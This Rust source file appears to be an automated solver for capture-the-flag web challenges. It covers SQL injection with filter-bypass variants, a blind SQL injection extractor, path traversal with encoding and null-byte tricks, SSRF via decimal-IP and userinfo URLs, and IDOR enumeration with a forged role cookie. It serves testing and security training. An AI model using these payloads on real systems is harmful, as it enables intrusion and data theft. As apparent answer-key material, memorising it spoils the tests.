//! Finds the flag by asking the site, with what is known of it and nothing else.

use super::Web;

/// Asks the site: a request, and its answer.
type Ask<'a> = &'a dyn Fn(&str) -> Option<String>;

/// The flag. Without `able`, only what the first two dials need is tried.
pub(super) fn flag(web: Web, about: &str, able: bool, ask: Ask<'_>) -> Option<String> {
    let told = |name: &str| {
        let line = about.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(' '));
        line.map(str::to_owned)
    };
    let (route, name) = (told("route")?, told("parameter")?);
    let get = |value: &str| {
        let said = ask(&format!("GET {route}?{name}={} HTTP/1.0\r\n\r\n", encoded(value)))?;
        found(&said)
    };
    let texts = match web {
        Web::Access => {
            let (list, kept, role) = (told("list")?, told("kept")?, told("role")?);
            return note(able, about, &[&route, &name, &list, &kept, &role], ask);
        }
        Web::Injection => {
            told("field")?;
            vec![
                "x' or shown = 'no".to_owned(),
                "x'\tor\tshown='no".to_owned(),
                "x'\toorr\tshown='no".to_owned(),
                encoded("x'\tor\tshown='no"),
            ]
        }
        Web::Traversal => {
            let (start, kept) = (told("start")?, told("kept")?);
            let kept = kept.splitn(4, '/').nth(3)?.to_owned();
            vec![
                format!("../{kept}"),
                format!("....//{kept}"),
                format!("%2e%2e/{kept}"),
                format!("{start}../../{kept}\0.txt"),
                format!("{start}%2e%2e%2e%2e//%2e%2e%2e%2e//{kept}%00.txt"),
            ]
        }
        Web::Forgery => {
            let (own, neighbour, on) = (told("own")?, told("neighbour")?, told("leads on")?);
            let (host, rest) = neighbour.split_once(':')?;
            let number = u32::from_be_bytes(crate::family::live::address(host)?);
            let on = on.strip_suffix("ADDRESS")?;
            vec![
                format!("http://{host}:{rest}"),
                format!("http://{number}:{rest}"),
                format!("http://{own}@{host}:{rest}"),
                format!("http://{own}@{number}:{rest}"),
                format!("http://{own}{on}{}", encoded(&format!("http://{number}:{rest}"))),
            ]
        }
    };
    let tries = if able { texts.len() } else { 2 };
    if let Some(flag) = texts.iter().take(tries).find_map(|text| get(text)) {
        return Some(flag);
    }
    (able && web == Web::Injection).then(|| blind(&route, &name, ask)).flatten()
}

/// Spells the flag by asking how many rows begin with it.
fn blind(route: &str, name: &str, ask: Ask<'_>) -> Option<String> {
    let mut known = "flag-".to_owned();
    while known.len() < 29 {
        let next = "0123456789abcdef".chars().find(|digit| {
            let text = format!("x' or shown = 'no' and content ^ '{known}{digit}");
            let said = ask(&format!("GET {route}?{name}={} HTTP/1.0\r\n\r\n", encoded(&text)));
            said.is_some_and(|said| said.ends_with("\r\n\r\n1\n"))
        })?;
        known.push(next);
    }
    Some(known)
}

/// Tries the numbers around one's own.
fn note(able: bool, about: &str, told: &[&str; 5], ask: Ask<'_>) -> Option<String> {
    let [route, name, list, kept, role] = told;
    let own = ask(&format!("GET {list} HTTP/1.0\r\n\r\n"))?;
    let (_, own) = own.split_once("\r\n\r\n")?;
    let own: Vec<i64> = own.lines().filter_map(|line| line.trim().parse().ok()).collect();
    let (first, second) = (own.first()?, own.get(1)?);
    // the nearest first
    let ids = [-1, 2, -2, 3, -3, 4].map(|n| first + n * (second - first));
    let cookie = format!("Cookie: role={role}\r\n");
    let mut ways = vec![("GET", (*route).to_owned(), String::new())];
    if about.contains(&format!("Notes are at {kept}{route},")) {
        if !able {
            return None;
        }
        ways.clear();
        ways.push(("GET", format!("{kept}{route}"), cookie.clone()));
        ways.push(("GET", format!("/{kept}{route}"), String::new()));
        ways.push(("POST", format!("{kept}{route}"), cookie));
    }
    ids.iter().find_map(|id| {
        ways.iter().find_map(|(method, path, headers)| {
            found(&ask(&format!("{method} {path}?{name}={id} HTTP/1.0\r\n{headers}\r\n"))?)
        })
    })
}

/// A flag in an answer.
fn found(said: &str) -> Option<String> {
    let (_, rest) = said.split_once("flag-")?;
    let digits: String = rest.chars().take_while(char::is_ascii_hexdigit).collect();
    (digits.len() == 24).then(|| format!("flag-{digits}"))
}

/// Everything but letters, digits and dots as `%41` is.
fn encoded(text: &str) -> String {
    let byte = |b: u8| match b {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'/' | b'-' => char::from(b).to_string(),
        _ => format!("%{b:02x}"),
    };
    text.bytes().map(byte).collect()
}
